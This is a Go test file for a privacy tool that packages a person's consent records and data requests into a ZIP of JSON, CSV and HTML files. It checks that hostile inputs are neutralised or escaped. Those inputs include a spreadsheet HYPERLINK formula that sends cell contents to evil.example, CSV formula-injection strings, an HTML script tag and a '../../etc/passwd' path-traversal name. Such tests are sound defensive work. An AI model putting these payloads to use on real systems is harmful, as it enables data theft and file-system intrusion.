package disclosure

import (
	"archive/zip"
	"bytes"
	"crypto/ed25519"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"golang.org/x/net/html"

	"github.com/custos-privacy/custos/internal/consent"
	"github.com/custos-privacy/custos/internal/custos"
	"github.com/custos-privacy/custos/internal/manifest"
)

// formula is a cell a spreadsheet would run.
const formula = `=HYPERLINK("https://evil.example/?"&A1,"click")`

// input returns the records of one person: n consent records from two
// browsers, with real signed receipts, two requests with their histories
// and an objection. Some strings are hostile.
func input(t testing.TB, n int) Input {
	t.Helper()
	site := demoSite(t)
	signer := testSigner()
	paris, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	start := time.Date(2023, 1, 2, 9, 0, 0, 0, time.UTC)
	methods := []custos.Method{custos.MethodAcceptAll, custos.MethodRejectAll, custos.MethodCustom, custos.MethodWithdraw, custos.MethodGPC}
	var consents []*custos.Consent
	for i := range n {
		subject := "s_browser-one"
		if i%3 == 2 {
			subject = "s_browser-two"
		}
		issued := start.Add(time.Duration(i) * 7 * time.Hour)
		c := &custos.Consent{
			ID: fmt.Sprintf("cs_%06d", i), Site: site.ID, Subject: subject,
			Choices: map[string]bool{"necessary": true, "performance": i%2 == 0, "functionality": i%3 == 0, "marketing": i%5 == 0},
			Method:  methods[i%len(methods)], ManifestFingerprint: site.Fingerprint(), Locale: "fr",
			Region: "FR", Jurisdiction: "eu", Mode: manifest.ModeOptIn, NoticeVersion: "2024-09",
			GPC: i%7 == 0, IPPrefix: "192.0.2.0/24",
			IssuedAt: issued.In(paris), ExpiresAt: issued.AddDate(0, 0, 182),
		}
		if i%4 == 0 {
			c.Choices["social_media"] = false
		}
		if i == 1 {
			// Hostile values, as an API client could send them.
			c.Locale, c.NoticeVersion, c.Region, c.IPPrefix = "@SUM(A1:A9)", "+1", "-2", formula
			c.Choices["<b>x</b>"] = true
		}
		c.Receipt, err = signer.Sign(consent.ReceiptFor(c, "https://custos.demo.example"))
		if err != nil {
			t.Fatal(err)
		}
		consents = append(consents, c)
	}
	received := time.Date(2025, 2, 20, 14, 0, 0, 0, time.UTC)
	older := &custos.Request{
		ID: "rq_older", Site: site.ID, Type: custos.RequestErasure, State: custos.StateDenied,
		Email: "person@example.com", Locale: "fr", Region: "FR", Jurisdiction: "eu", Law: "GDPR",
		Details: "\tplease erase", ReceivedAt: received.AddDate(0, -6, 0), DueAt: received.AddDate(0, -5, 0),
		VerifiedAt: received.AddDate(0, -6, 0).Add(time.Hour), DenyReason: custos.DenyInsufficientVerification,
		DenyNote: formula, ClosedAt: received.AddDate(0, -5, -3), UpdatedAt: received.AddDate(0, -5, -3),
		EmailHash: "hash", Version: 4,
	}
	current := &custos.Request{
		ID: "rq_current", Site: site.ID, Type: custos.RequestAccess, State: custos.StateInProgress,
		Email: "person@example.com", EmailHash: "hash", ConsentSubject: "s_browser-one",
		Locale: "fr", Region: "FR", Jurisdiction: "eu", Law: "GDPR",
		ReceivedAt: received, AcknowledgeBy: received.AddDate(0, 0, 3), DueAt: received.AddDate(0, 1, 0),
		ExtendMax: received.AddDate(0, 3, 0), VerifiedAt: received.Add(10 * time.Minute),
		AssignedTo: "st_staff", UpdatedAt: received.Add(time.Hour), Version: 2,
	}
	events := map[string][]*custos.RequestEvent{
		current.ID: {
			{ID: 12, RequestID: current.ID, Time: received.Add(time.Hour), Actor: "st_staff", Kind: custos.EventNote, Note: `<script>alert("note")</script> -1+1`},
			{ID: 10, RequestID: current.ID, Time: received, Actor: "subject", Kind: custos.EventReceived},
			{ID: 11, RequestID: current.ID, Time: received.Add(10 * time.Minute), Actor: "subject", Kind: custos.EventVerified},
			{ID: 13, RequestID: current.ID, Time: received.Add(time.Hour), Actor: "st_staff", Kind: custos.EventApproved},
		},
		older.ID: {
			{ID: 1, RequestID: older.ID, Time: older.ReceivedAt, Actor: "subject", Kind: custos.EventReceived},
			{ID: 2, RequestID: older.ID, Time: older.ClosedAt, Actor: "st_staff", Kind: custos.EventDenied, Note: "@staff: no proof"},
		},
	}
	marks := []*custos.SubjectMark{{
		ID: 3, Site: site.ID, EmailHash: "hash", Kind: custos.MarkObjected, Detail: custos.ObjectDirectMarketing,
		RequestID: "rq_objection", Since: received.AddDate(0, -2, 0),
	}}
	return Input{
		Site: site, Request: current, Consents: consents, Requests: []*custos.Request{current, older},
		Events: events, Marks: marks, Generated: time.Date(2025, 3, 1, 10, 30, 0, 0, time.UTC), Issuer: "https://custos.demo.example",
	}
}

func testSigner() *consent.Signer {
	return consent.NewSigner(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, ed25519.SeedSize)))
}

func build(t testing.TB, in Input) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Package(&b, in); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// unzip returns the files of a ZIP by name, and their names in order.
func unzip(t *testing.T, b []byte, modified time.Time) (map[string][]byte, []string) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	var names []string
	for _, f := range zr.File {
		if !f.Modified.Equal(modified) {
			t.Errorf("%s: modified %v, want %v", f.Name, f.Modified, modified)
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		files[f.Name] = data
		names = append(names, f.Name)
	}
	return files, names
}

// document is data.json as a reader decodes it.
type document struct {
	Format        string    `json:"format"`
	FormatVersion int       `json:"format_version"`
	Generated     time.Time `json:"generated"`
	Issuer        string    `json:"issuer"`
	Locale        string    `json:"locale"`
	Site          struct {
		ID                  string              `json:"id"`
		Name                string              `json:"name"`
		ManifestFingerprint string              `json:"manifest_fingerprint"`
		Controller          manifest.Controller `json:"controller"`
	} `json:"site"`
	Request *struct {
		ID   string             `json:"id"`
		Type custos.RequestType `json:"type"`
	} `json:"request"`
	Subject struct {
		Email      string   `json:"email"`
		ConsentIDs []string `json:"consent_ids"`
	} `json:"subject"`
	Consents []*custos.Consent      `json:"consents"`
	Requests []*custos.Request      `json:"requests"`
	Events   []*custos.RequestEvent `json:"events"`
	Marks    []dataMark             `json:"marks"`
}

func TestPackageRoundTrip(t *testing.T) {
	const n = 1000
	in := input(t, n)
	want := in // sorted as the package sorts
	// The caller's order does not matter.
	in.Consents = slices.Clone(in.Consents)
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(in.Consents), func(i, j int) {
		in.Consents[i], in.Consents[j] = in.Consents[j], in.Consents[i]
	})
	b := build(t, in)
	if !bytes.Equal(b, build(t, want)) {
		t.Error("the order of the consent records changes the package")
	}
	if !bytes.Equal(b, build(t, in)) {
		t.Error("the same input gives two packages")
	}
	files, names := unzip(t, b, in.Generated)
	if wantNames := []string{"README.txt", "index.html", "information.html", "data.json", "consents.csv", "requests.csv", "events.csv"}; !slices.Equal(names, wantNames) {
		t.Errorf("files %q, want %q", names, wantNames)
	}

	var doc document
	if err := json.Unmarshal(files["data.json"], &doc); err != nil {
		t.Fatalf("data.json: %v", err)
	}
	if doc.Format != DataFormat || doc.FormatVersion != DataFormatVersion || !doc.Generated.Equal(in.Generated) ||
		doc.Issuer != in.Issuer || doc.Locale != "fr" || doc.Site.ID != "demo" ||
		doc.Site.ManifestFingerprint != in.Site.Fingerprint() || doc.Site.Controller != in.Site.Controller {
		t.Errorf("head: %+v", doc)
	}
	if doc.Request == nil || doc.Request.ID != "rq_current" || doc.Request.Type != custos.RequestAccess {
		t.Errorf("request: %+v", doc.Request)
	}
	if doc.Subject.Email != "person@example.com" || !slices.Equal(doc.Subject.ConsentIDs, []string{"s_browser-one", "s_browser-two"}) {
		t.Errorf("subject: %+v", doc.Subject)
	}
	if diff := cmp.Diff(want.Consents, doc.Consents); diff != "" {
		t.Errorf("consents (-input +data.json):\n%s", diff)
	}
	ignore := cmpopts.IgnoreFields(custos.Request{}, "EmailHash", "Version")
	wantRequests := []*custos.Request{want.Requests[1], want.Requests[0]} // oldest first
	if diff := cmp.Diff(wantRequests, doc.Requests, ignore); diff != "" {
		t.Errorf("requests (-input +data.json):\n%s", diff)
	}
	var wantEvents []*custos.RequestEvent
	for _, id := range []string{"rq_older", "rq_current"} {
		evs := slices.Clone(want.Events[id])
		slices.SortFunc(evs, func(a, b *custos.RequestEvent) int {
			if c := a.Time.Compare(b.Time); c != 0 {
				return c
			}
			return int(a.ID - b.ID)
		})
		wantEvents = append(wantEvents, evs...)
	}
	if diff := cmp.Diff(wantEvents, doc.Events); diff != "" {
		t.Errorf("events (-input +data.json):\n%s", diff)
	}
	m := want.Marks[0]
	if diff := cmp.Diff([]dataMark{{ID: m.ID, Kind: m.Kind, Detail: m.Detail, RequestID: m.RequestID, Since: m.Since}}, doc.Marks); diff != "" {
		t.Errorf("marks (-input +data.json):\n%s", diff)
	}
	if bytes.Contains(files["data.json"], []byte(`"hash"`)) {
		t.Error("data.json holds the keyed hash of the address")
	}
	keys := testSigner().JWKS()
	for _, c := range doc.Consents {
		if _, err := consent.VerifyReceipt(c.Receipt, keys); err != nil {
			t.Errorf("%s: receipt: %v", c.ID, err)
		}
	}

	// consents.csv: a header and one row per record, formulas neutralised.
	rows := readCSV(t, files["consents.csv"])
	if len(rows) != n+1 {
		t.Fatalf("consents.csv has %d rows, want %d", len(rows), n+1)
	}
	if !slices.Equal(rows[0], consentColumns) {
		t.Errorf("header %q", rows[0])
	}
	col := func(name string) int { return slices.Index(consentColumns, name) }
	for i, row := range rows[1:] {
		c := want.Consents[i]
		if row[col("id")] != c.ID || row[col("receipt")] != c.Receipt || row[col("issued_at")] != c.IssuedAt.UTC().Format(time.RFC3339) {
			t.Errorf("row %d: %q", i, row)
		}
	}
	if got := rows[1][col("choices")]; got != "functionality=true;marketing=true;necessary=true;performance=true;social_media=false" {
		t.Errorf("choices = %q", got)
	}
	hostile := rows[2]
	for name, want := range map[string]string{"ip_prefix": "'" + formula, "locale": "'@SUM(A1:A9)", "notice_version": "'+1", "region": "'-2"} {
		if got := hostile[col(name)]; got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	for _, name := range []string{"consents.csv", "requests.csv", "events.csv"} {
		rows := readCSV(t, files[name])
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q is a formula", name, cell)
				}
			}
		}
	}
	if rows := readCSV(t, files["requests.csv"]); len(rows) != 3 || rows[1][0] != "rq_older" || rows[1][slices.Index(requestColumns, "deny_note")] != "'"+formula {
		t.Errorf("requests.csv: %q", rows)
	}
	if rows := readCSV(t, files["events.csv"]); len(rows) != 7 {
		t.Errorf("events.csv has %d rows", len(rows))
	}

	// index.html, in French.
	p := parse(t, files["index.html"])
	if p.lang() != "fr" {
		t.Errorf("index.html: lang = %q", p.lang())
	}
	if h := p.elements("h1"); !slices.Equal(h, []string{"Vos données personnelles"}) {
		t.Errorf("h1 = %q", h)
	}
	for _, h := range []string{"En bref", "Contenu de ce dossier", "Vos choix de consentement au fil du temps", "Vos demandes", "Limitations et oppositions"} {
		if !contains(p.elements("h2"), h) {
			t.Errorf("no heading %q in %q", h, p.elements("h2"))
		}
	}
	p.mustContain(t, "index.html", "1\u202f000", "Accès à vos données (cette demande)", "Effacement de vos données",
		"Refusée", "votre identité n'a pas pu être vérifiée", "Cookies de performance", "Tout accepté",
		`<script>alert("note")</script>`, "prospection commerciale", "person@example.com", "Europe/Paris", "20 février 2025")
	var consentRows int
	for node := range p.root.Descendants() {
		if node.Type == html.ElementNode && node.Data == "tr" && node.Parent.Data == "tbody" && attr(node.Parent.Parent, "class") == "compact" {
			consentRows++
		}
	}
	if consentRows != n+4+2 { // the consents, then the history
		t.Errorf("%d rows in the compact tables, want %d", consentRows, n+6)
	}
	if !bytes.Contains(files["index.html"], []byte(`href="information.html"`)) {
		t.Error("index.html does not link to information.html")
	}
	if size := len(files["index.html"]); size > 300<<10 {
		t.Errorf("index.html weighs %d bytes for %d records", size, n)
	}
	info := parse(t, files["information.html"])
	if info.lang() != "fr" {
		t.Errorf("information.html: lang = %q", info.lang())
	}
	info.mustContain(t, "information.html", allLabels["fr"].Complaint, "CNIL")
	readme := string(files["README.txt"])
	for _, s := range []string{"Vos données personnelles", "data.json", "consent_ids", strings.Join(consentColumns, ",")} {
		if !strings.Contains(readme, s) {
			t.Errorf("README.txt does not say %q", s)
		}
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\ufeff")) {
		t.Error("no byte order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestPackageEmpty(t *testing.T) {
	in := Input{Site: demoSite(t), Locale: "de", Generated: now}
	files, _ := unzip(t, build(t, in), now)
	var doc document
	if err := json.Unmarshal(files["data.json"], &doc); err != nil {
		t.Fatalf("data.json: %v\n%s", err, files["data.json"])
	}
	if doc.Request != nil || len(doc.Consents) != 0 || len(doc.Requests) != 0 || doc.Subject.ConsentIDs == nil {
		t.Errorf("empty package: %+v", doc)
	}
	p := parse(t, files["index.html"])
	p.mustContain(t, "empty", allLabels["de"].NoConsents, allLabels["de"].NoRequests)
	if rows := readCSV(t, files["consents.csv"]); len(rows) != 1 {
		t.Errorf("consents.csv: %q", rows)
	}

	// The request answered is added to the requests, and events of a
	// request no longer held are kept.
	in = Input{Site: demoSite(t), Generated: now,
		Request: &custos.Request{ID: "rq_1", Type: custos.RequestPortability, Locale: "en", Email: "a@example.com", ReceivedAt: now},
		Events: map[string][]*custos.RequestEvent{
			"rq_1":    {{ID: 1, RequestID: "rq_1", Time: now, Kind: custos.EventReceived}},
			"rq_gone": {{ID: 2, RequestID: "rq_gone", Time: now, Kind: custos.EventNote, Note: "n"}, nil},
		},
		Consents: []*custos.Consent{nil},
	}
	files, _ = unzip(t, build(t, in), now)
	doc = document{}
	if err := json.Unmarshal(files["data.json"], &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Requests) != 1 || doc.Requests[0].ID != "rq_1" || len(doc.Events) != 2 || doc.Events[1].RequestID != "rq_gone" ||
		doc.Subject.Email != "a@example.com" || doc.Locale != "en" || len(doc.Consents) != 0 {
		t.Errorf("data.json: %s", files["data.json"])
	}
	if err := Package(io.Discard, Input{}); err == nil {
		t.Error("no error without a site")
	}
}

// TestPackageSystemFiles: a system's files are written under
// systems/<id>/ with names that cannot leave that folder, kept apart when
// they collide, listed in data.json without their bytes, and linked from
// index.html with their names escaped.
func TestPackageSystemFiles(t *testing.T) {
	in := Input{Site: demoSite(t), Generated: now, Systems: []SystemData{
		{ID: "archive", Name: "Paper archive", Data: json.RawMessage(`{"note":"n"}`), Files: []File{
			{Name: "scan #1.pdf", MediaType: "application/pdf", Data: []byte("%PDF one")},
			{Name: "../../etc/passwd", MediaType: "text/plain", Data: []byte("two")},
			{Name: "scan #1.pdf", MediaType: "application/pdf", Data: []byte("%PDF three")},
			{Name: "...", MediaType: "text/plain", Data: []byte("four")},
		}},
	}}
	files, names := unzip(t, build(t, in), now)
	want := map[string]string{
		"systems/archive/scan #1.pdf":   "%PDF one",
		"systems/archive/etcpasswd":     "two",
		"systems/archive/scan #1-2.pdf": "%PDF three",
		"systems/archive/file-4":        "four",
	}
	for name, body := range want {
		if string(files[name]) != body {
			t.Errorf("%s = %q, want %q (files: %q)", name, files[name], body, names)
		}
	}
	for _, n := range names {
		if strings.Contains(n, "..") || strings.HasPrefix(n, "/") {
			t.Errorf("a file may leave the package's folder: %q", n)
		}
	}
	var doc struct {
		Systems []struct {
			Files []map[string]any `json:"files"`
		} `json:"systems"`
	}
	if err := json.Unmarshal(files["data.json"], &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Systems) != 1 || len(doc.Systems[0].Files) != 4 {
		t.Fatalf("data.json: %s", files["data.json"])
	}
	if f := doc.Systems[0].Files[2]; f["path"] != "systems/archive/scan #1-2.pdf" || f["size"] != float64(10) || f["data"] != nil {
		t.Errorf("data.json lists %v", f)
	}
	if !bytes.Contains(files["index.html"], []byte(`href="systems/archive/scan%20%231.pdf"`)) {
		t.Errorf("index.html does not link the file with its name escaped")
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "a": "a", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"1-1": "1-1", "'=x": "'=x", " =x": " =x",
	} {
		if got := neutralize(in); got != want {
			t.Errorf("neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// counter counts what is written to it.
type counter int64

func (c *counter) Write(p []byte) (int, error) {
	*c += counter(len(p))
	return len(p), nil
}

func BenchmarkPackage1000(b *testing.B) {
	in := input(b, 1000)
	b.ReportAllocs()
	var size counter
	for b.Loop() {
		size = 0
		if err := Package(&size, in); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(size), "bytes")
}
